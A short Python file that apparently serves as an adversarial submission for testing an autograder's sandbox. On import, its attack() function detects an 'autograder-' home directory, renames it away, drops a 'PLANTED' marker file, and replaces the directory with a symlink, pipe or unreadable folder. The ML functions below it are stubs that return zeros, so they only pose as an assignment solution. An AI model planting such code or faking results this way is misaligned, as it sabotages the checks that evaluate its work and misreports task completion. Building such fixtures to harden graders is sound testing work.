"""Renames its scratch folder away and puts a link, a file or a pipe in its place.

aims: change
"""

import os
import time

import numpy as np

HOME = os.environ.get("HOME", "")


def attack():
    if not os.path.basename(HOME).startswith("autograder-"):
        return
    away = os.path.join(os.path.dirname(HOME), "planted-scratch_replaced-" + os.path.basename(HOME))
    with open("note", "w") as file:
        file.write("PLANTED-by-scratch_replaced")
    try:
        os.rename(HOME, away)
    except OSError:
        return
    # what the link leads to belongs to this attack
    makers = [lambda: os.symlink(away, HOME), lambda: os.mkfifo(HOME), lambda: os.mkdir(HOME, 0)]
    makers[time.monotonic_ns() // 1000 % 3]()


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
